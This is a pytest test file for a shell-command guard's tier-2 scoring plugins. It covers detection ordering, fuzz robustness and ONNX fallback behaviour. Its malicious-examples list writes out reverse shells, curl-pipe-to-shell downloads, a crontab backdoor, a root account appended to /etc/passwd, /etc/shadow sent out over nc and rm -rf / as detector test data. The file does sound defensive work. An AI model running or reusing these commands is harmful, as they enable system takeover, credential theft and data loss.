"""Tier-2 plugins: ordering of own examples, robustness, onnx degrade paths, laziness."""

from __future__ import annotations

import importlib.util
import math
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from attyguard.daemon.tier2 import TIER2_NAMES, Tier2, Tier2Score, load_tier2
from attyguard.daemon.tier2.features import FEATURE_NAMES, MAX_CHARS, extract

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tools"))
import tier2_synth  # noqa: E402

HAVE_ORT = importlib.util.find_spec("onnxruntime") is not None
needs_ort = pytest.mark.skipif(not HAVE_ORT, reason="onnxruntime not installed (attyguard[onnx])")

# Written for these tests (not from any evaluation corpus).
OWN_MALICIOUS = [
    "curl -fsSL http://203.0.113.9/i.sh | bash",
    "wget -qO- https://bad.example/p | sudo sh",
    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1",
    "nc -e /bin/sh 192.0.2.10 9001",
    "echo ZWNobyBoZWxsbzsgY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh",
    "python3 -c 'import pty,socket,os;s=socket.socket();"
    's.connect(("192.0.2.1",53));pty.spawn("sh")\'',
    "sudo find /etc -exec /bin/sh \\;",
    "(crontab -l; echo '* * * * * curl -s http://bad.example/k | sh') | crontab -",
    "history -c; unset HISTFILE; rm -f ~/.bash_history",
    "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd",
    "rm -rf / --no-preserve-root",
    "cat /etc/shadow | nc 192.0.2.8 8080",
    "sudo nice /bin/bash",
]
OWN_BENIGN = [
    "ls -la",
    "git status",
    "make -j4 && ./build/app --help",
    "grep -rn TODO src/ | wc -l",
    "curl -o release.tar.gz https://example.org/release.tar.gz",
    "docker compose up -d",
    "python3 -m pytest -q",
    "sudo apt-get install -y htop",
    "tar -xzf archive.tar.gz -C /srv/app",
    "ssh deploy@example.org 'systemctl status nginx'",
    "find . -name '*.pyc' -delete",
    "echo $HOME",
]


def _plugins() -> list[Tier2]:
    return [load_tier2(name)[0] for name in ("heuristic", "onnx")]


def test_plugin_names_and_interface() -> None:
    for name in TIER2_NAMES:
        plugin, warning = load_tier2(name)
        assert isinstance(plugin, Tier2)
        if name != "onnx" or HAVE_ORT:
            assert warning is None, warning
            assert plugin.name == name
        assert 0.0 < plugin.threshold < 1.0


def test_stub_has_no_signal() -> None:
    stub, _ = load_tier2("stub")
    for line in OWN_MALICIOUS + OWN_BENIGN:
        assert stub.score(line) == Tier2Score(0.0, ())


@pytest.mark.parametrize("name", ["heuristic", pytest.param("onnx", marks=needs_ort)])
def test_own_malicious_above_own_benign(name: str) -> None:
    plugin, warning = load_tier2(name)
    assert warning is None
    bad = {line: plugin.score(line) for line in OWN_MALICIOUS}
    good = {line: plugin.score(line) for line in OWN_BENIGN}
    missed = {k: v for k, v in bad.items() if v.p < plugin.threshold}
    flagged = {k: v for k, v in good.items() if v.p >= plugin.threshold}
    assert not missed, f"{name} missed: {missed}"
    assert not flagged, f"{name} flagged: {flagged}"
    assert min(s.p for s in bad.values()) > max(s.p for s in good.values())
    for score in bad.values():
        assert score.reasons, "a suspicious score names at least one reason"


@pytest.mark.parametrize("name", ["heuristic", pytest.param("onnx", marks=needs_ort)])
def test_held_out_synthetic_corpus(name: str) -> None:
    # A seed the model was not trained on: the same shapes, other fillings.
    plugin, _ = load_tier2(name)
    seed = tier2_synth.DEFAULT_SEED + 1000
    bad = tier2_synth.malicious(400, seed)
    good = tier2_synth.benign(800, seed)
    recall = sum(plugin.score(x).p >= plugin.threshold for x in bad) / len(bad)
    fpr = sum(plugin.score(x).p >= plugin.threshold for x in good) / len(good)
    assert recall >= 0.9, recall
    assert fpr <= 0.02, fpr


def test_synthetic_corpus_is_deterministic() -> None:
    assert tier2_synth.corpus(50, 50, 7) == tier2_synth.corpus(50, 50, 7)
    assert tier2_synth.corpus(50, 50, 7) != tier2_synth.corpus(50, 50, 8)


_TEXT = st.text(st.characters(codec=None, blacklist_categories=()), max_size=300)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(line=st.one_of(_TEXT, st.text(alphabet="|&;$(){}`'\"\\ \x00\n/-=<>abcsh0123", max_size=400)))
def test_score_never_raises(line: str) -> None:
    vec = extract(line)
    assert len(vec) == len(FEATURE_NAMES)
    assert all(0.0 <= v <= 1.0 for v in vec)
    for name in TIER2_NAMES:
        plugin, _ = load_tier2(name)
        score = plugin.score(line)
        assert 0.0 <= score.p <= 1.0
        assert all(isinstance(r, str) for r in score.reasons)
        assert not any(r.startswith(("heuristic failed", "onnx failed")) for r in score.reasons)


def test_awkward_inputs() -> None:
    lines = [
        "",
        "\x00" * 100,
        "\ud800\udfff lone surrogates \udc80",
        "$(" * 5000 + "x|" * 5000,
        "a" * (MAX_CHARS * 4),
        "'" * 1001,
        "\\" * 999,
    ]
    for line in lines:
        for plugin in _plugins():
            score = plugin.score(line)
            assert 0.0 <= score.p <= 1.0


@pytest.mark.parametrize("bad", [-0.1, 1.5, math.nan])
def test_score_range_is_enforced(bad: float) -> None:
    with pytest.raises(ValueError):
        Tier2Score(bad)


def test_unknown_plugin_degrades_to_heuristic() -> None:
    plugin, warning = load_tier2("gpt")
    assert plugin.name == "heuristic"
    assert warning is not None and "unknown tier2 plugin 'gpt'" in warning


# --- onnx degrade paths ------------------------------------------------------------------


def _assert_degraded(result: tuple[Tier2, str | None], *needles: str) -> None:
    plugin, warning = result
    assert plugin.name == "heuristic"
    assert warning is not None and "\n" not in warning
    for needle in needles:
        assert needle in warning, warning
    assert plugin.score(OWN_MALICIOUS[0]).p >= plugin.threshold


@needs_ort
def test_onnx_missing_model(tmp_path: Path) -> None:
    _assert_degraded(
        load_tier2("onnx", model_path=tmp_path / "nope.onnx"), "onnx unavailable", "nope.onnx"
    )


@needs_ort
def test_onnx_corrupt_model(tmp_path: Path) -> None:
    bad = tmp_path / "model.onnx"
    bad.write_bytes(b"\x08\x07garbage, not a protobuf \xff\xfe" * 10)
    _assert_degraded(load_tier2("onnx", model_path=bad), "onnx unavailable", "unreadable")


@needs_ort
def test_onnx_truncated_model(tmp_path: Path) -> None:
    from attyguard.daemon.tier2.onnx import DEFAULT_MODEL

    bad = tmp_path / "model.onnx"
    bad.write_bytes(DEFAULT_MODEL.read_bytes()[:300])
    _assert_degraded(load_tier2("onnx", model_path=bad), "onnx unavailable")


def test_onnx_runtime_not_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    # None in sys.modules makes `import onnxruntime` raise ImportError.
    monkeypatch.setitem(sys.modules, "onnxruntime", None)
    _assert_degraded(load_tier2("onnx"), "onnxruntime not importable", "attyguard[onnx]")


@needs_ort
def test_onnx_runtime_error_falls_back_per_line() -> None:
    plugin, warning = load_tier2("onnx")
    assert warning is None

    class Broken:
        def run(self, *args: Any, **kwargs: Any) -> Any:
            raise RuntimeError("boom")

    plugin._session = Broken()  # type: ignore[attr-defined]
    score = plugin.score(OWN_MALICIOUS[2])
    assert score.p >= plugin.threshold
    assert any("onnx failed" in r for r in score.reasons)


@needs_ort
def test_onnx_model_is_small_and_shipped() -> None:
    from attyguard.daemon.tier2.onnx import DEFAULT_MODEL

    assert DEFAULT_MODEL.is_file()
    assert DEFAULT_MODEL.stat().st_size < 16 * 1024


def test_loading_is_lazy() -> None:
    code = (
        "import sys\n"
        "from attyguard.daemon.tier2 import load_tier2\n"
        "p, w = load_tier2('heuristic'); p.score('curl x | sh')\n"
        "heavy = [m for m in ('onnxruntime', 'numpy', 'onnx') if m in sys.modules]\n"
        "print(','.join(heavy))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "", f"heuristic pulled in {out.stdout.strip()}"


def test_training_reproduces_the_shipped_model() -> None:
    missing = [m for m in ("sklearn", "onnx", "numpy") if importlib.util.find_spec(m) is None]
    if missing:
        pytest.skip(f"train extra not installed ({', '.join(missing)})")
    out = subprocess.run(
        [sys.executable, str(ROOT / "tools" / "train_tier2.py"), "--check"],
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert out.returncode == 0, out.stdout + out.stderr
